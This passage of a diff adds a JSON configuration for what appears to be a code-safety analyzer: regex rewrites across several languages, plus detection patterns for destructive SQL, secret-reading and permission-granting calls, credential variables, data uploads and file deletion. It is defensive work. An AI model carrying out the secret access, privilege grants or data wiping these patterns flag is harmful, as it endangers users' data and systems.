+efine\\\\s+(\\\\w+)[ \\\\t]+","$1 = "],["::<[^<>()]*>",""],["::","."],["\\\\?(?=\\\\s*[;.,){\\\\n])|!!(?=[.,)])|\\\\?(?=\\\\.\\\\w)|(?<=[\\\\w)\\\\]])!(?=[\\\\s.,;)\\\\]])",""],["->d_nam\
+e\\\\b",""],["\\\\breaddir\\\\((\\\\w+)\\\\)","any_of(readdir($1))"],["\\\\.(?:file|directory)(?=\\\\s*[)&|])",".isFile"],["\\\\b(\\\\w+)!\\\\s*(?=[(\\\\[])","$1"],["\\\\bvec\\\\[","["],\
+["\\\\b(?:System|env|Deno)\\\\.(?:getProperty|getenv|var|var_os)\\\\(\\"\\\\d+\\"\\\\)\\\\.(?:unwrap|expect|unwrap_or_default)\\\\([^()]*\\\\)","$&"],["\\\\.(?:for_each|try_for_eac\
+h|foreach|forEachOrdered|each|forEachIndexed)\\\\b",".forEach"],["\\\\b(?:let|var|val)\\\\s+(?:mut\\\\s+)?(?=\\\\w+\\\\s*(?::[^=\\\\n]*)?=(?!=))",""],["\\\\.(?:path|name|Name|g\
+etName|file_name|filename)\\\\(\\\\)",""],["\\\\.(?:(?:password|secret|apiToken)\\\\.)?plainText\\\\b",".getPlainText()"],["\\\\.(?:where|findAll|filterNot|filterNotNull|ta\
+keWhile|withFilter)\\\\b",".filter"],["\\\\.(?:collect|mapNotNull|flatMap|filter_map|compactMap)(?=\\\\s*(?:\\\\(?\\\\s*\\\\{|\\\\(\\\\s*[|(\\\\w]))",".map"],["(?<![\\\\w.])(?:\\\\w{\
+1,40}\\\\.){0,6}(?:Uri|URI|URL|Url)\\\\.(?:unsafeParse|parse|apply|create|new)\\\\(","URI("],["\\\\.(?:absolutePath|canonicalPath|fullPath|path|absolute)\\\\b(?!\\\\s*\\\\()"\
+,""],["\\\\bRuntime\\\\.(?:getRuntime\\\\(\\\\)|runtime)","Runtime"],["(?:Jenkins|hudson\\\\.model\\\\.Hudson)\\\\.(?:instance|get\\\\(\\\\)|getInstance\\\\(\\\\)|instanceOrNull)\\\\.(\
+?:getA|a)?(?:llItems|items|getItems)\\\\b(?:\\\\([^()]*\\\\))?","jenkinsItems()"],["(?<=^[ \\\\t]{0,40}|[;{}] {0,4})(\\\\w+)\\\\.(args?|addAll|add|push|append)\\\\(","$1 = $1\
+.$2("],["\\\\.(?:Generation|If|Retryer)\\\\((?:[^()]|\\\\([^()]*\\\\)){0,80}\\\\)",""],["\\\\.([A-Z]\\\\w+)\\\\((?:\\"\\\\d+\\"|[\\\\w.]*)\\\\)\\\\.(Delete|DeleteCollection)\\\\(",".$1.Del\
+ete("],["\\\\.(map|forEach|filter)\\\\((\\\\w[\\\\w.]*)\\\\(_\\\\)\\\\)",".$1((it) => $2(it))"],["\\\\bfor\\\\s+_\\\\s*,\\\\s*(\\\\w+)\\\\s*:?=\\\\s*range\\\\s+","for $1 of "],["\\\\bfor\\\\s+(\\\
+\\w+)\\\\s*,\\\\s*(\\\\w+)\\\\s*:?=\\\\s*range\\\\s+([^{\\\\n]*(?:\\\\{[^{}]*\\\\}+)?)\\\\s*\\\\{","for $1 of $3 { $2 = $1;"],["\\\\bfor\\\\s+(\\\\w+)\\\\s*:?=\\\\s*range\\\\s+","for $1 of "],["\\\
+\\[(?:\\\\d+|\\\\.\\\\.\\\\.)?\\\\](?:\\\\*?[\\\\w.]+|\\\\[\\\\][\\\\w.]+)\\\\{([^{}]*)\\\\}","[$1]"],["\\\\bfor\\\\s*[({]?\\\\s*(\\\\w+)\\\\s*<-\\\\s*","for $1 of "],["\\\\b(?:fun|func|fn|def)\\\\s+(?\
+:<[^<>]*>\\\\s*)?(?:\\\\([^()]*\\\\)\\\\s*)?(?:[\\\\w<>]+\\\\.)*(\\\\w+)(?:<[^<>()]*>|\\\\[[^\\\\[\\\\]()]*\\\\])?\\\\s*\\\\(","function $1("],["\\\\bfunc\\\\s*\\\\(","function("],["&?\\\\b\\\\w+\\\
+\\.[A-Z]\\\\w*\\\\{(?=\\\\s*[A-Z]\\\\w*\\\\s*:)","{"],["(function \\\\w+\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))[^={\\\\n]*=\\\\s*\\\\{","$1 {"],["(function \\\\w+\\\\([^()]*(?:\\\\([^()]*\\\
+\\))?[^()]*\\\\))[^={\\\\n]*=\\\\s*(?=[^\\\\s{>=])([^\\\\n]*)","$1 { return $2 }"],["\\\\b(?:val|mut|lazy|defer|go|await|unsafe|private|public|internal|override|static|inlin\
+e|suspend|open|try)\\\\b[?!]?\\\\s+(?=[\\\\w\\"\\\\[(&*])",""],["^([ \\\\t]*(?:if\\\\s+|var\\\\s+)?)(\\\\w+)[ \\\\t]*,[ \\\\t]*\\\\w+[ \\\\t]*(:?=)(?!=)","$1$2 $3"],["([(,=]\\\\s*(?:move\\\
+\\s+)?)\\\\|([^|\\\\n]*)\\\\|\\\\s*(?:->\\\\s*[^{\\\\n]*)?","$1($2) => "],["\\\\{\\\\s*\\\\(?(\\\\w+(?:\\\\s*,\\\\s*\\\\w+)*)\\\\)?\\\\s*(?:->|=>|\\\\bin\\\\b)(?=\\\\s)","{|$1|"],["(\\\\.\\\\w+)\\\\s*\\\\{\
+\\\\s*\\\\|","$1() {|"],["(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|while|switch|match|guard|catch|function|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\
+\\n]{0,300})(\\\\.\\\\w+)\\\\s+\\\\{(?!\\\\s*\\\\|)","$1() {|it|"],["(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|while|switch|match|guard|catch|function|class|extension|struct\
+|impl|interface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+\\\\([^()\\\\n]*\\\\))\\\\s*\\\\{(?!\\\\s*\\\\|)(?=[^{}]*(?:\\\\bit|\\\\$0)\\\\b)","$1 {|it|"],["\\\\.filter\\\\(\\\\)\\\\s*\\\\{\\\\|(\\\\w+\
+)\\\\|([^{}]*)\\\\}",".filter(($1) => $2)"],["[\\\\s\\\\S](?![\\\\s\\\\S])","$&\\nmain()"],["\\\\$0","it"],["\\\\(([^()\\\\n]*?)(?<![\\\\w.])_(?=\\\\s*[./)]|\\\\s*\\\\.\\\\w)","((it) => $1i\
+t"],["(\\"\\\\d+\\"|\\\\w|\\\\))\\\\s+\\\\.\\\\/\\\\s+","$1 / "]]},"typed":{"comment":"//[^\\\\n]*|/\\\\*[\\\\s\\\\S]*?\\\\*/|^[ \\\\t]*#(?!define\\\\b)[^\\\\n]*|^[ \\\\t]*@\\\\w+(?:\\\\([^()\\\\n]*\\\\\
+))?","texts":"\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|(?:\\\\b[rLu]{1,2})?\\"((?:[^\\"\\\\\\\\\\\\n]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\\\\\n]|\\\\\\\\.)*)'","inserts":"\\\\$\\\\{?([A-Za-z_][\\\\w.]*(?:\
+\\\\([^()]*\\\\))?)\\\\}?","rewrites":[["^(?:script )?eval ",""],["^[ \\\\t]*(?:import|use|using|package|library|part)\\\\s*\\\\([^()]*\\\\)",""],["(?<=^|;)[ \\\\t]*(?:pub\\\\s+)\
+?(?:import|use|using|package|library|part)\\\\s+[^\\\\n;(]*(?:;|$)",""],["^[ \\\\t]*#define\\\\s+(\\\\w+)[ \\\\t]+","$1 = "],["::<[^<>()]*>",""],["::","."],["\\\\?(?=\\\\s*[;.,\
+){\\\\n])|!!(?=[.,)])|\\\\?(?=\\\\.\\\\w)|(?<=[\\\\w)\\\\]])!(?=[\\\\s.,;)\\\\]])",""],["->d_name\\\\b",""],["\\\\breaddir\\\\((\\\\w+)\\\\)","any_of(readdir($1))"],["\\\\.(?:file|director\
+y)(?=\\\\s*[)&|])",".isFile"],["\\\\b(\\\\w+)!\\\\s*(?=[(\\\\[])","$1"],["\\\\bvec\\\\[","["],["\\\\b(?:System|env|Deno)\\\\.(?:getProperty|getenv|var|var_os)\\\\(\\"\\\\d+\\"\\\\)\\\\.(?:\
+unwrap|expect|unwrap_or_default)\\\\([^()]*\\\\)","$&"],["\\\\.(?:for_each|try_for_each|foreach|forEachOrdered|each|forEachIndexed)\\\\b",".forEach"],["\\\\b(?:let|var|va\
+l)\\\\s+(?:mut\\\\s+)?(?=\\\\w+\\\\s*(?::[^=\\\\n]*)?=(?!=))",""],["\\\\.(?:path|name|Name|getName|file_name|filename)\\\\(\\\\)",""],["\\\\.(?:(?:password|secret|apiToken)\\\\.)?p\
+lainText\\\\b",".getPlainText()"],["\\\\.(?:where|findAll|filterNot|filterNotNull|takeWhile|withFilter)\\\\b",".filter"],["\\\\.(?:collect|mapNotNull|flatMap|filter_map\
+|compactMap)(?=\\\\s*(?:\\\\(?\\\\s*\\\\{|\\\\(\\\\s*[|(\\\\w]))",".map"],["(?<![\\\\w.])(?:\\\\w{1,40}\\\\.){0,6}(?:Uri|URI|URL|Url)\\\\.(?:unsafeParse|parse|apply|create|new)\\\\(","\
+URI("],["\\\\.(?:absolutePath|canonicalPath|fullPath|path|absolute)\\\\b(?!\\\\s*\\\\()",""],["\\\\bRuntime\\\\.(?:getRuntime\\\\(\\\\)|runtime)","Runtime"],["(?:Jenkins|hudson\
+\\\\.model\\\\.Hudson)\\\\.(?:instance|get\\\\(\\\\)|getInstance\\\\(\\\\)|instanceOrNull)\\\\.(?:getA|a)?(?:llItems|items|getItems)\\\\b(?:\\\\([^()]*\\\\))?","jenkinsItems()"],["(?\
+<=^[ \\\\t]{0,40}|[;{}] {0,4})(\\\\w+)\\\\.(args?|addAll|add|push|append)\\\\(","$1 = $1.$2("],["\\\\.(?:Generation|If|Retryer)\\\\((?:[^()]|\\\\([^()]*\\\\)){0,80}\\\\)",""],["\\\
+\\.([A-Z]\\\\w+)\\\\((?:\\"\\\\d+\\"|[\\\\w.]*)\\\\)\\\\.(Delete|DeleteCollection)\\\\(",".$1.Delete("],["\\\\bnew\\\\s+[\\\\w.]+\\\\[\\\\w*\\\\]\\\\s*\\\\{([^{}]*)\\\\}","[$1]"],["\\\\bnew\\\\s+(?=[\
+A-Z])",""],["\\\\bprintln?[ \\\\t]+(?=[\\\\w\\"])",""],["\\\\.(?:eachFileRecurse|eachDirRecurse|traverse)\\\\b(?:\\\\(\\\\w*\\\\))?(?=\\\\s*\\\\{)",".walk().forEach"],["\\\\.(?:eachFi\
+le|eachDir)\\\\b(?:\\\\(\\\\))?(?=\\\\s*\\\\{)",".listFiles().forEach"],["\\\\bfor\\\\s*\\\\(\\\\s*(?:[\\\\w.\\\\[\\\\]<>]+[\\\\s&*]+)*(\\\\w+)\\\\s*:(?!:)\\\\s*","for ($1 of "],["(\\\\w|\\\\))\\\\.\
+text\\\\s*=(?!=)\\\\s*([^\\\\n;}]+)","$1.writeText($2)"],["(File\\\\([^()]*\\\\))\\\\s*<<\\\\s*(\\"\\\\d+\\")","$1.appendText($2)"],["\\\\b(?:final|static|public|private|protected|\
+const|constexpr|auto|late|synchronized|extern|inline|volatile|unsigned|try)\\\\b\\\\s*(?=[\\\\w\\"\\\\[(&*])",""],["\\\\bstruct\\\\s+(?=\\\\w+\\\\s*[*\\\\w])",""],["<(?:[\\\\w.?, \\\\\
+[\\\\]]|<[\\\\w.?, ]*>)*>(?=\\\\s*[\\\\w(\\\\[])",""],["\\\\bdef\\\\s+(\\\\w+)\\\\s*\\\\(","function $1("],["(^[ \\\\t]*|[;}{][ \\\\t]*)(?!(?:else|return|new|throw|function|case|await|\
+yield|in|of|do)\\\\b)[A-Za-z_][\\\\w.]*(?:\\\\[\\\\])*[\\\\s*&?]+(?!(?:if|for|while|switch|catch)\\\\b)(\\\\w+)\\\\s*\\\\(([^()]*)\\\\)\\\\s*(?:throws\\\\s+[\\\\w., ]+|async\\\\s*)?\\\\{","$\
+1function $2($3) {"],["(?<![\\\\w.])(?!(?:else|return|new|throw|function|case|await|yield|in|of|assert|println|print|not|let|var)\\\\b)[A-Za-z_][\\\\w.]*(?:\\\\[\\\\])*(?\
+:\\\\s*[*&?]+\\\\s*|\\\\s+)(?!(?:in|of|instanceof|is|as)\\\\b)(\\\\w+)(?:\\\\[\\\\w*\\\\])*(?=\\\\s*(?:[,);]|=(?!=)))","$1"],["(=\\\\s*|[(,]\\\\s*)\\\\{([^{};:]*)\\\\}","$1[$2]"],["\\\\bfo\
+r(?:each)?\\\\s*\\\\(\\\\s*[\\\\w.]+\\\\s+(\\\\w+)\\\\s+in\\\\s+","for ($1 of "],["\\\\b(?:snprintf|sprintf_s)\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,[^,]*,","$1 = sprintf("],["\\\\bsprintf\\\\s*\\\\(\\\\\
+s*(\\\\w+)\\\\s*,(?=\\\\s*\\")","$1 = sprintf("],["\\\\bstrn?cpy\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,","$1 = std.string("],["\\\\bstrn?cat\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,","$1 += std.string("],["\\\
+\\s->\\\\s*(?=\\\\w|\\\\{|\\\\()"," => "],["\\\\{\\\\s*\\\\(?(\\\\w+(?:\\\\s*,\\\\s*\\\\w+)*)\\\\)?\\\\s*(?:->|=>|\\\\bin\\\\b)(?=\\\\s)","{|$1|"],["(\\\\.\\\\w+)\\\\s*\\\\{\\\\s*\\\\|","$1() {|"],["(?<!^[\
+ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|while|switch|match|guard|catch|function|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+)\\\\s+\\\\{(\
+?!\\\\s*\\\\|)","$1() {|it|"],["(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|while|switch|match|guard|catch|function|class|extension|struct|impl|interface|enum|object)\
+\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+\\\\([^()\\\\n]*\\\\))\\\\s*\\\\{(?!\\\\s*\\\\|)(?=[^{}]*(?:\\\\bit|\\\\$0)\\\\b)","$1 {|it|"],["\\\\.filter\\\\(\\\\)\\\\s*\\\\{\\\\|(\\\\w+)\\\\|([^{}]*)\\\\}",".filter(($\
+1) => $2)"],["[\\\\s\\\\S](?![\\\\s\\\\S])","$&\\nmain()"],["\\\\$0","it"]]},"tcl":{"comment":"(?:^|;)[ \\\\t]*#[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|\\\\[list\\\\\
+s+([^\\\\[\\\\]$\\"{}]*)\\\\]|(?<=\\\\b(?:set|foreach) {1,4}\\\\w{1,40} {1,4})\\\\{([^{}$\\\\[\\\\];]*)\\\\}|(?<=\\\\bset {1,4}\\\\w{1,40} {1,4})([\\\\w.~/-]+)|(?<=\\\\b(?:exec|spawn) {1,\
+4}(?:--?\\\\w{1,20} {1,4}){0,3})([^\\\\s\\\\[-][^\\\\n;\\\\]}]*)|(?<=(?:\\\\bfile {1,4}(?:delete|join|normalize|mkdir)|\\\\bglob|\\\\bopen)\\\\b[^\\\\n;\\\\]}\\\\[]{0,300} )(?!-)([$*~/\
+.\\\\w][\\\\w./~*$-]*)","inserts":"\\\\$\\\\{?(?:::)?([A-Za-z_]\\\\w*)\\\\}?","rewrites":[["\\\\$\\\\{?(?:::)?(\\\\w+)\\\\}?","$1"],["\\\\b(?:exec|spawn)\\\\s+(?:--?\\\\w+\\\\s+)*(\\\\((?:[^\
+()]|\\\\([^()]*\\\\))*\\\\)|\\"\\\\d+\\")","system($1)"],["\\\\[\\\\s*file\\\\s+(?:join|normalize)\\\\s+(\\\\S+)\\\\s+(\\\\S+?)\\\\s*\\\\]","join_path($1, $2)"],["\\\\[\\\\s*glob\\\\s+(?:-nocomp\
+lain\\\\s+|-types?\\\\s+\\\\S+\\\\s+|--\\\\s+)*-dir(?:ectory)?\\\\s+(\\\\S+)\\\\s+(?:-\\\\w+\\\\s+)*(\\\\S+?)\\\\s*\\\\]","glob(join_path($1, $2))"],["\\\\[\\\\s*glob\\\\s+(?:-\\\\w+\\\\s+)*(\\\\S+?\
+)\\\\s*\\\\]","glob($1)"],["\\\\bfile\\\\s+tempfile\\\\s+(\\\\w+)(?:\\\\s+\\\\w+)?","$1 = mktemp()"],["\\\\bfile\\\\s+delete\\\\s+(?:-force\\\\s+|--\\\\s+)*\\\\{\\\\*\\\\}([^\\\\n;\\\\]}]+)",";rm_\
+rf(words($1))"],["\\\\bfile\\\\s+delete\\\\s+(?:-force\\\\s+|--\\\\s+)*([^\\\\n;\\\\]}]+)",";rm_rf($1)"],["(\\\\brm_rf\\\\((?:\\"\\\\d+\\"|\\\\w+|\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)))\\\\s+(?=\
+[\\"\\\\w(])","$1); rm_rf("],["(\\\\brm_rf\\\\((?:\\"\\\\d+\\"|\\\\w+|\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)))\\\\s+(?=[\\"\\\\w(])","$1); rm_rf("],["\\\\[\\\\s*open\\\\s+(\\\\S+?)\\\\s+(\\\\w+|\\"\\\\d\
++\\")\\\\s*\\\\]","open($1, \\"$2\\")"],["\\\\bforeach\\\\s+(\\\\w+)\\\\s+(\\"\\\\d+\\"|\\\\w+|\\\\w+\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\))\\\\s*\\\\{","for ($1 of words($2)) {"],["\\\\bproc\\\\s+(\\\\\
+w+)\\\\s+\\\\{(\\\\w*)\\\\}\\\\s*\\\\{","function $1($2) {"],["\\\\bset\\\\s+(\\\\w+)\\\\s+\\\\[?([^\\\\n;\\\\]}]+)","$1 = $2"],["(?<=^[ \\\\t]{0,40}|[;{}] {0,4})(\\\\w+)\\\\s+(\\"\\\\d+\\"|\\\\w+)\\\
+\\s*(?=$|[;}])","$1($2)"],["[\\\\[\\\\]]"," "]]},"lisp":{"comment":";[^\\\\n]*","texts":"(?:#p)?\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|\\\\?\\\\\\\\?.","rewrites":[["(?<=[\\\\w\\"])\
+[-\\\\/](?=\\\\w)","_"],["\\\\b[a-z_]\\\\w*:{1,2}(?=\\\\w)",""],["\\\\(\\\\s*(?:dolist|loop\\\\s+for|for\\\\s+\\\\(?\\\\[?)\\\\s+\\\\(*\\\\s*(\\\\w+)\\\\s+(?:in\\\\s+)?","; for $1 of "],["\\\\(\\\\s\
+*(?:let\\\\*?|if_let\\\\*?|when_let\\\\*?)\\\\s+\\\\(\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s+","; $1 = ("],["(?<=\\\\)\\\\s{0,9})\\\\(\\\\s{0,9}(\\\\w+)\\\\s+(?=\\\\([^()]*\\\\)\\\\s*\\\\)\\\\s*\\\\)?\\\\s*\\\\()","; \
+$1 = ("],["\\\\(\\\\s*(?:setq|defvar|defconst|defparameter|define|setf)\\\\s+(\\\\w+)\\\\s+","; $1 = ("],["\\\\(\\\\s*(?:defun|define)\\\\s+\\\\(?(\\\\w+)\\\\s+\\\\(?([^()]*)\\\\)","; fu\
+nction $1($2) { "],["\\\\(\\\\s*lambda\\\\s+\\\\(([^()]*)\\\\)\\\\s*","(($1) => "],["\\\\(\\\\s*(?:progn|begin|when|unless|if|and|or|condition_case|ignore_errors|save_excursion\
+|display)\\\\s","; ("],["['#]{1,2}(?=[(\\\\w])",""],["\\\\(\\\\s*(?:expand_file_name|merge_pathnames)\\\\s+(\\\\w+|\\"\\\\d+\\")\\\\s+(\\\\w+|\\"\\\\d+|\\\\([^()]*\\\\)|\\"\\\\d+\\")\\\\s*\\\\)",\
+"join_path($2, $1)"],["\\\\(\\\\s*(\\\\w[\\\\w/:]*)(?=[\\\\s)])\\\\s*","$1("],["((?:\\"\\\\d+\\"|\\\\)|(?<![=>]\\\\s{0,4})\\\\b(?!of\\\\b|for\\\\b|function\\\\b)\\\\w+))\\\\s+(?=[\\"\\\\w(])(?!of\
+\\\\b|=)","$1, "],[",\\\\s*(?:nil|t)\\\\b",""]]},"haskell":{"comment":"\\\\{-[\\\\s\\\\S]*?-\\\\}|--[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'(?:[^'\\\\\\\\]|\\\\\\\\.)'",\
+"rewrites":[["^import\\\\b[^\\\\n]*",""],["\\\\b(?:[A-Z]\\\\w*\\\\.)+(?=[a-z])",""],["<-","="],["<>|\\\\+\\\\+","+"],["<\\\\/>","/"],["\\\\b(\\\\w+)\\\\s*=\\\\s*getHomeDirectory\\\\b","$\
+1 = \\"~\\""],["\\\\blet\\\\s+(?=\\\\w+\\\\s*=)",""],["\\\\b(?:mapM_|traverse_|forConcurrently_)\\\\s+(\\\\w+)\\\\s+(\\\\[[^\\\\[\\\\]]*\\\\]|\\\\w+)","map($1, $2)"],["\\\\bforM_\\\\s+(\\\\[[^\\\\\
+[\\\\]]*\\\\]|\\\\w+)\\\\s*\\\\$?\\\\s*\\\\\\\\(\\\\w+)\\\\s*->","for ($2 of $1); "],["\\\\b(callCommand|system|shell|spawnCommand|remove\\\\w+|readFile|words)\\\\s+(?:\\\\$\\\\s*)?(?=[\\"(\\\\\
+w])(\\"\\\\d+\\"(?:\\\\s*[+\\\\/]\\\\s*(?:\\"\\\\d+\\"|\\\\w+))*|\\\\w+(?:\\\\s*[+\\\\/]\\\\s*(?:\\"\\\\d+\\"|\\\\w+))*|\\\\([^()]*\\\\))","$1($2)"],["\\\\b(callProcess|readProcess|rawSystem)\\\\s+(\
+\\"\\\\d+\\")\\\\s+(\\\\[[^\\\\[\\\\]]*\\\\])","spawn($2, $3)"],["\\\\b(writeFile|appendFile)\\\\s+(\\"\\\\d+\\"|\\\\w+|\\\\([^()]*\\\\))\\\\s+(\\"\\\\d+\\"|\\\\w+)","$1($2, $3)"]]},"octave":{"com\
+ment":"[%#][^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|(?<![\\\\w)\\\\]}])'((?:[^'\\\\n]|'')*)'","rewrites":[["\\\\brmdir\\\\s*\\\\(([^(),]*),\\\\s*\\"\\\\d+\\"\\\\s*\\\\)","\
+rm_rf($1)"],["\\\\b(?:delete|unlink)\\\\s*\\\\(","remove("],["\\\\b(?:unix|dos|shell_cmd)\\\\s*\\\\(","system("],["\\\\bfullfile\\\\s*\\\\(","join_path("],["\\\\{([^{};]*\\"[^{};]*)\
+\\\\}","[$1]"],["\\\\[\\\\s*(\\"\\\\d+\\")\\\\s+(?=[\\"\\\\w])","[$1, "],["\\\\bfor\\\\s+(\\\\w+)\\\\s*=\\\\s*(\\\\[[^\\\\[\\\\]]*\\\\]|\\\\w+)","for ($1 of $2);"],["(\\\\b[a-z]\\\\w*)\\\\{[\\\\w:]+\\\\}",\
+"$1"]]}},"awk":{"comment":["#"],"sigils":"","interpolation":"none","triple":false,"single_escapes":true,"quoting":"none","patterns":true,"lines":"statements"},"\
+operators":{"||":1,"??":1,"or":1,"&&":2,"and":2,"==":3,"!=":3,"===":3,"!==":3,"<":3,">":3,"<=":3,">=":3,"=~":3,"in":3,"is":3,"..":3,"|":4,"^":5,"&":6,"<<":7,">>\
+":7,"+":8,"-":8,".":8,"*":9,"/":9,"%":9,"//":9,"x":9,"**":10},"sql":[{"words":[["TRUNCATE"],["TABLE"]],"does":"truncate","name":2},{"words":[["TRUNCATE"]],"does\
+":"truncate","name":1},{"words":[["CREATE"],["USER","ROLE","LOGIN"]],"does":"create-user","name":2},{"words":[["ALTER"],["USER","ROLE","LOGIN"]],"does":"alter-u\
+ser","name":2},{"words":[["ALTER"],["SYSTEM"]],"does":"set-global","name":3},{"words":[["SET"],["GLOBAL","PERSIST"]],"does":"set-global","name":2},{"words":[["P\
+RAGMA"],["WRITABLE_SCHEMA"]],"does":"set-global","name":1},{"words":[["GRANT"]],"does":"grant","all":true},{"words":[["REVOKE"]],"does":"revoke","all":true},{"w\
+ords":[["SHUTDOWN"]],"does":"shutdown"},{"words":[["ATTACH"],["DATABASE"]],"does":"attach","name":2},{"words":[["ATTACH"]],"does":"attach","name":1},{"words":[[\
+"KILL"]],"does":"kill","name":1},{"words":[["FLUSHALL","FLUSHDB"]],"does":"flush","name":0},{"words":[["CREATE"],["DATABASE","SCHEMA"]],"does":"create","name":2\
+},{"words":[["PURGE"]],"does":"purge","name":1},{"words":[["CONFIG"],["SET"],["DIR","DBFILENAME"]],"does":"set-global","name":2},{"words":[["RESET"],["MASTER","\
+REPLICA","SLAVE"]],"does":"purge","name":1}],"signs":{"name-tests":["[=!<>]=|[<>]|\\\\b(?:in|match)\\\\b|=~|\\\\b(?:endswith|startswith|endsWith|startsWith|includes|t\
+est|match|search|end_with\\\\?|start_with\\\\?)"],"kind-tests":["is_?(?:dir|file|link|symlink)|isDirectory|isFile|isSymbolicLink|exists|(?:directory|file|exist)\\\\?|\
+-[dfel]\\\\b","i"],"age-tests":["[acm]time|birthtime|\\\\bst_size|getsize|\\\\.size\\\\b|file(?:size|mtime)|\\\\s-[MAC]\\\\s"],"secret-methods":["^(?:get|batch_?get)_?secre\
+t_?values?$|^(?:access_?secret_?version|get_?secret|read_?secret(?:_?version)?|get_?(?:frozen_?)?credentials)$|^(?:list|read)_?(?:namespaced_?)?secret(?:_?for_?\
+all_?namespaces)?$","i"],"granting-methods":["^(?:attach|put)_?(?:user|role|group)_?policy(?:_?command)?$|^authorize_?security_?group_?ingress(?:_?command)?$|^(\
+?:create_?access_?key|add_?user_?to_?group|put_?bucket_?(?:policy|acl))(?:_?command)?$","i"],"emptying-methods":["^(?:empty|obliterate|clear|drop|flush_?(?:all|\
+db|database))(?:_?(?:async|sync))?$|^(?:refresh|drop|reset|clear|wipe|truncate|purge)_?(?:all|db|database|schema|tables?|collections?|storage)(?:_?(?:async|sync\
+))?$","i"],"own-addresses":["\\\\blocalhost\\\\b|\\\\b127\\\\.\\\\d|\\\\b0\\\\.0\\\\.0\\\\.0\\\\b|\\\\[?::1\\\\b|^(?:unix|file|sqlite):|^\\\\.{0,2}/"],"service-options":["api_?key|token|\
+secret|credential|password|authorization|access_?key|^(?:basic_?)?auth$|^endpoint$|^(?:base|prefix|org|server|api)_?ur[li]$|^(?:hosts?|servers?|brokers|bootstra\
+p_?servers)$|(?:project|account|subscription|site|space|app|tenant)_?id$","i"],"service-variables":["TOKEN|KEY|SECRET|PASS|PAT$|AUTH|CRED|ACCOUNT|ENDPOINT|DSN|(\
+?:UR[LI]|HOST|_ID|SID|DOMAIN|SERVER)$"],"service-addresses":["^(?:https?|wss?|grpcs?|nats|amqps?|ldaps?)://[^/]|^(?:[\\\\w-]+\\\\.)+(?:com|net|org|io|dev|local|inte\
+rnal|cloud|corp)(?::\\\\d+)?$|^\\\\d+\\\\.\\\\d+\\\\.\\\\d+\\\\.\\\\d+(?::\\\\d+)?$"],"own-data-modules":["^(?:\\\\.{1,2}|@|~)/(?:[\\\\w./-]*[/.-])?(?:db|database|data-?source|orm|pr\
+isma|knex|sequelize|mongoose|models?)(?:[/.-]|$)","i"],"client-makers":["^[A-Z]|^(?:create|connect|init|make|open|new|from|extend|with|get_?client)|(?:client|dr\
+iver|session|pool|engine|connection|sdk|api)$","i"],"negative-tests":["\\\\bnot\\\\b|!=|!~|!\\\\s*\\\\(?[\\\\w.]+|\\\\bunless\\\\b|\\\\breject\\\\b"],"skips":["\\\\b(?:continue|nex\
+t|return)\\\\b"],"stdin-names":["^(?:0|-|/dev/(?:stdin|fd/0)|/proc/self/fd/0|php://stdin)$"],"mock-options":["^(?:spec|spec_set|autospec|create|name|unsafe|new_ca\
+llable|target|attribute|new)$"],"writing-flags":["^File\\\\.(?:Constants\\\\.)?(?:WRONLY|RDWR|CREAT|TRUNC|APPEND)$|^(?:os|fs\\\\.constants|constants)?\\\\.?O_(?:WRONLY|\
+RDWR|CREAT|TRUNC|APPEND)$"],"sending-methods":["gist|upload|put_?object|comment|send|post","i"],"deleting-requests":["^DELETE(?: /|$)|\\\\bmutation\\\\b[\\\\s\\\\S]*(?:\
+\\\\bdelete|Delete)\\\\w*\\\\s*\\\\("],"place-options":["ur[li]|host|server|endpoint|address|database|^db|file|storage|^path$|dsn","i"],"passing-data":["^memory://|:mem\
+ory:|^(?:sqlite\\\\w*(?:\\\\+\\\\w+)?:/{2,3})?/tmp/|^sqlite://$|^mock$"],"passing-databases":["^(?::memory:$|/(?:tmp|var/tmp|dev/shm)/(?!.*\\\\.\\\\.))|^(?:[\\\\w.-]+/)*(?:\
+test|tests|tmp|scratch)(?:[_-][\\\\w-]*)?\\\\.(?:db|sqlite3?)$"],"harmless-names":["^(?:None|null|undefined|true|false|True|False|(?:\\\\w+\\\\.)*\\\\w*(?:Error|Exception\
+|DEFAULT|Exit|Interrupt))$"],"file-calls":["^(?:os\\\\.(?:remove|unlink|rmdir|removedirs|rename|replace|truncate)|shutil\\\\.\\\\w+|pathlib\\\\.\\\\w+)$"],"imitation":["^\
+[^#\\\\n]*(?:\\\\b(?:import|from)\\\\s+|require\\\\(\\\\s*)['\\"]?(?:fakeredis|mongomock|pymongo_inmemory|ioredis-mock|redis-mock)\\\\b|^[^#\\\\n]*(?:\\\\b(?:import|from)\\\\s+|re\
+quire\\\\(\\\\s*)['\\"]?(?:mongodb-memory-server|pg-mem|testcontainers)\\\\b|^from sqlalchemy import .*\\\\bcreate_mock_engine\\\\b|\\\\b(?:miniredis\\\\.(?:Run|RunT|NewMiniRe\
